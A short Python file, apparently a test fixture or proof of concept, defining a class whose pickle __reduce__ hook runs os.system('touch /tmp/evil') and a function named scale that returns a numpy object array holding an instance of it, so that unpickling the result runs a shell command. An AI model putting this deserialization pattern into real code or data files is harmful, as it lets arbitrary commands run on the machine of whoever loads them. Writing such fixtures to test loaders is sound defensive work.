import numpy as np


class Evil:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/evil",)


def scale(x):
    return np.array([Evil()], dtype=object)
